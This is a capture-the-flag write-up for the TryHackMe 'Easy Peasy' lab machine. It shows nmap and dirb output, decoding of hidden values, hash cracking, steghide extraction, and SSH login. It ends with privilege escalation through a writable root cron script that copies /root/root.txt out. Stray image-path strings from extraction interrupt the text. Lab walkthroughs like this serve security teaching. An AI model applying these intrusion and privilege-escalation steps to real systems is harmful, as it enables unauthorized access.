TryHackMe: Easy Peasy

12 min readAug 5, 2020
Img. Easy Peasy

The Easy Peasy room on TryHackMe is marked as beginner and it is a beginner level room but even then it’ll take a lot of time and efforts to break it. This room is mainly about one and only one thing and that is Enumeration!

Even after being a beginner level room, it took me quite some time to drill down and complete the room. But to be honest, this room made me realize the importance of enumeration.

[Task 1] Enumeration Through Nmap

As all the questions in this task are based on nmap, we can directly start a nmap search first and then look at the questions

tester@kali:~$ nmap -A -p- -T4
Starting Nmap 7.80 ( ) at 2020-08-05 03:40 IST
Nmap scan report for
Host is up (0.15s latency).
Scanned at 2020-08-05 03:40:13 IST for 937s
Not shown: 65508 closed ports
80/tcp open http nginx 1.16.1
| http-robots.txt: 1 disallowed entry
|_http-server-header: nginx/1.16.1
|_http-title: Welcome to nginx!
2125/tcp filtered lockstep
3640/tcp filtered netplay-port1
6498/tcp open ssh OpenSSH 7.6p1 Ubuntu 4ubuntu0.3 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
| 2048 30:4a:2b:22:ac:d9:56:09:f2:da:12:20:57:f4:6c:d4 (RSA)
| 256 bf:86:c9:c7:b7:ef:8c:8b:b9:94:ae:01:88:c0:85:4d (ECDSA)
|_ 256 a1:72:ef:6c:81:29:13:ef:5a:6c:24:03:4c:fe:3d:0b (ED25519)
6891/tcp filtered unknown
11348/tcp filtered unknown
11739/tcp filtered unknown
12244/tcp filtered unknown
12738/tcp filtered unknown
13469/tcp filtered unknown
13803/tcp filtered unknown
24499/tcp filtered unknown
28661/tcp filtered unknown31276/tcp filtered unknown
31806/tcp filtered unknown
38949/tcp filtered unknown
40706/tcpfiltered unknown
41952/tcp filtered unknown
42030/tcp filtered unknown
43509/tcp filtered unknown
44915/tcp filtered unknown
45960/tcp filtered unknown
47700/tcp filtered unknown
52127/tcp filtered unknown
57917/tcp filtered unknown
59485/tcp filtered unknown
65524/tcp open http Apache httpd 2.4.43 ((Ubuntu))
| http-robots.txt: 1 disallowed entry|_http-server-header: Apache/2.4.43 (Ubuntu)
|_http-title: Apache2 Debian Default Page: It works
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel
Final times for host: srtt: 146469 rttvar: 629 to: 148985

NSE: Script Post-scanning.
NSE: Starting runlevel 1 (of 3) scan.
NSE: Starting ssh-hostkey.
NSE: Finished ssh-hostkey.
NSE: Starting runlevel 2 (of 3) scan.
NSE: Starting runlevel 3 (of 3) scan.
Read from /usr/bin/../share/nmap: nmap-payloads nmap-service-probes nmap-services.
Service detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 937.71 seconds
  1. How many ports are open?

The answer to this question can be found bydirectly count the number of open ports for which nmap has provided the details.

2. What is the version of nginx?

We can see that on what port nginx is running and along with that we are provided the version of nginx as well.

3. What is running on the highest port?

There is only one service that is running on the port number greater than 65K and that service is the answer to this question.

[Task 2] Compromising The Machine

Now, the fun part begins!

The questions in this task require us to find hidden pages and files. Hence, we can start dirb scan beforehand and then use all that information to answer the questions.

Remember, on our nmap scan we saw two open ports; one for nginx and the other for apache. So, we can start two different dirb scans for each port.

Dirb scan for port 80:

tester@kali:~/Desktop$ dirbDIRB v2.22
By The Dark Raver

START_TIME: Wed Aug 5 03:45:39 2020
WORDLIST_FILES: /usr/share/dirb/wordlists/common.txt



---- Scanning URL: ----
+ (CODE:200|SIZE:612)
+ (CODE:200|SIZE:43)

---- Entering directory: ----
+ (CODE:200|SIZE:390)

---- Entering directory: ----
+ (CODE:200|SIZE:435)

END_TIME: Wed Aug 5 04:20:18 2020

Dirb Scan for port 65524:

tester@kali:~$ dirb

DIRB v2.22
By The Dark Raver

START_TIME: Wed Aug 5 04:05:43 2020
WORDLIST_FILES: /usr/share/dirb/wordlists/common.txt



---- Scanning URL: ----
+ (CODE:200|SIZE:10818)
+ (CODE:200|SIZE:153)
+ (CODE:403|SIZE:280)

END_TIME: Wed Aug 5 04:17:13 2020
  1. Using GoBuster, find flag 1.

From dirb scan for port 80, we can see that a /hidden directory has been found so we can go and check if we can find something usefulover there.

Over there, we can see this one image and nothing else. Not even in the HTML file.

Img. Hidden

We can also see that another sub-directory is present in the /hidden directory named as /whatever, we can also go there and check it's content.

Img. Whatever

Again, the same thing.There is just an image but this time in the HTML file, we cansee a value named hidden and the == at the end suggest that it is a base64 encoded file. So, we can decode it as base64 and check what it actually is. We can use GCHQ CyberChef for decoding.

Once decoded, we can see that we have got our first flag!

2. Further enumerate the machine, what is flag 2?

As for port 80, no otherdirectories or files were detected (other than robots.txt which did not contain anything useful) we can now move on to the dirb results from port 65524.

We can also check the homepage that is hosted on port 65524 which appears to be the default Apache page and hence, we can say that there is nothing useful here.

In the dirb scan results for port 65524, another robots.txt was detected. So, we can go and check this as well. There we can see one really odd kind of an user-agent specified.

Robots Not Allowed
This Flag Can Enter But Only This Flag No More Exceptions

Whatever it might be we can try to curl a request with this User-Agent.

tester@kali:~$ curl -A "a18672860d0510e5ab6699730763b250"Even after curling a request to the homepage with a modified user-agent, we still got the same page itself but while looking at the result of this request properly we can see that the Flag 3 is present over here only. So, if not flag 2 we got flag 3 at least.

As it appears to be a random string, we can try different decoding method on it to check if can get some meaningful data out of it. This can be done by using the magic feature on GCHQ website. But even over there, we can find any meaningful decoding output for this string.

The next thing about which we can think is hashes. We can pass this string to hash-identifier and check if it can detect something.

tester@kali:~/Desktop$ hash-identifier
HASH: a18672860d0510e5ab6699730763b250

Possible Hashs:
[+] MD5
[+] Domain Cached Credentials - MD4(MD4(($pass)).(strtolower($username)))

And we can see that it has been detected as possible MD5 or MD4 hash. We can not look for some online md5 cracker tools and try to crack this hash. I tried various websites butwas not able to crack it until I found this website.

After select MD5 as the hash type and passing on the hash value, we can see in the result that we now have flag 2 as well.

So with this, we got all the 3 flags but now the important part begins which is gaining access to the machine.

3. Locate flag 3.

Check Task 2, Question 2 for the solution as it was found before flag 2.

4. What is the hidden directory?

We have browsed all the pages that were detected by dirb on both port 80 and 65524 but we did not find any hidden directory that gets accepted as the solution to this question. Which means we have not observed something that was present in the detected pages.

We can go through all the pages and directories that have been detected to find out what we have missed. From the pages on port 80, we can’t find anything. But on the index.html page on port 65524 from where we got our third flag, we missed one important detail:

This value again appears to be some sort of hashed value or encoded value. But in the statement, it is written that ‘its encoded with ba….:’ which suggests that this is some sort of baseX encoded data. So, we can go back to CyberChef and try different base encoding methods and determine which one decodes this string. After multiple trials and errors with various base encoding method, we can determine that this is the hidden directory encoded using base62.

So, we got the name of the hidden directory as well.

5. Using the file found in the hidden directory, find and crack a password hidden in the file.

It can be seen that there is one full-screen background image on top which there is another image named “binarycodepixabay.jpg” and below that another text string. First, we can look at the string. Again, this appears like a hash, so we can send it to hash-identifier.

tester@kali:~/Desktop$ hash-identifier
HASH:940d71e8655ac41efb5f8ab850668505b86dd64186a66e57d1483e7f5fe6fd81

Possible Hashs:
[+] SHA-256
[+] Haval-256

Least Possible Hashs:
[+] GOST R 34.11-94
[+] RipeMD-256
[+] SNEFRU-256
[+] SHA-256(HMAC)
[+] Haval-256(HMAC)
[+] RipeMD-256(HMAC)
[+] SNEFRU-256(HMAC)
[+] SHA-256(md5($pass))
[+] SHA-256(sha1($pass))

This time the possible hashing methods that detected are SHA-256 and Haval-256. So, we can go back to the same hash cracker website that we used earlier and crack the hash. But even after multiple attempts, the hash does not get cracked either as SHA-256 nor Haval-256. We can even the least possible hashing methods.

When we select GHOST hashing method in hash type and pass our hash value then the hash gets cracked. The cracked values appear to be the password of something but what we don’t know yet.

But for now, this password can be submitted as the answer to this question.

6. What is the password to login to the machine via SSH?

Coming back to the webpage where we found this hash, we had observed that was an image as well. So, we can save that image and check it for steganography and pass the found password as the passphrase for this file’s steganography test.

tester@kali:~/Downloads$ steghide extract -sf binarycodepixabay.jpg
Enter passphrase:
wrote extracted data to "secrettext.txt".

Now, the secrettext.txt file we can get the username and the password which is stored in binary.

tester@kali:~/Downloads$ cat secrettext.txt
01101001 01100011 01101111 01101110 01110110 01100101 01110010 01110100 01100101 01100100 01101101 01111001 01110000 0110000101110011 01110011 01110111 01101111 01110010 01100100 01110100 01101111 01100010 01101001 01101110 01100001 01110010 01111001

So, we can again head back to GCHQ and convert this binary data to text to get the password for this account. Also, this password can be submitted as the answer to this question.

7. What is the user flag?

Now that we have both the username and password, we can easily access the machine via SSH. But one thing to remember here is that the SSH was not running on the default port 22 but some other custom port. So, while connecting we need to mention that port number as well.

tester@kali:~$ ssh boring@ -p 6498
The authenticity of host '[]:6498 ([]:6498)' can't be established.
ECDSA key fingerprint is SHA256:hnBqxfTM/MVZzdifMyu9Ww1bCVbnzSpnrdtDQN6zSek.
Are you sure you want to continue connecting (yes/no/[fingerprint])? yes
Warning: Permanently added '[]:6498' (ECDSA) to the list of known hosts.
** This connection are monitored by government offical **
** Please disconnect if you are not authorized **
** A lawsuit will be filed against you if the law is not followed **
boring@'s password:
You Have 1 Minute Before AC-130 Starts Firing
!!!!!!!!!!!!!!!!!!I WARN YOU !!!
You Have 1 Minute Before AC-130 Starts Firing
!!!!!!!!!!!!!!!!!!I WARN YOU !!!
boring@kral4-PC:~$ cat user.txt

And we get the user flag (partially) but not in the exact state. It is also mentioned in the user.txt file that the flag has been rotated. So, we can go to CyberChef and rotate the flag using ROT13 and get our desiredflag!

8. What is the root flag?

We are already at the user level, so we just need to escalate ourselves to the root level in order to gain root-level access on the machine.

As a regular process, we can check the /etc/passwd file, run sudo-l and check /etc/crontab. We don't find any useful information from the passwd file and also we are not allowed to run any commands as sudo on this machine. But in /etc/crontab we can find a job running every minute that too with root as user:

boring@kral4-PC:~$ cat /etc/crontab
# /etc/crontab: system-wide crontab# Unlike any other crontab you don't have to run the `crontab'
# command to install the new version when you edit this file
# and files in /etc/cron.d. These files also have username fields,
# that none of the other crontabs do.


# m h dom mon dow user command
17 * * * * root cd / && run-parts --report /etc/cron.hourly
25 6 * * * root test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
47 6 * * 7 root test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.weekly )
52 6 1 * * root test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.monthly )
* * * * * root cd /var/www/ && sudo bash

We can further check and confirm that we have access to this /var/www/ and also that we can modify it. So, now we can simply enter the command cat /root/root.txt > /tmp/flag in this shell file.

Also, we need to make a new file named flag in /tmp directory and change it's permissions so that root can write to it using the command: chmod 660 flag. We can wait for some time and then check the content of the flag file.

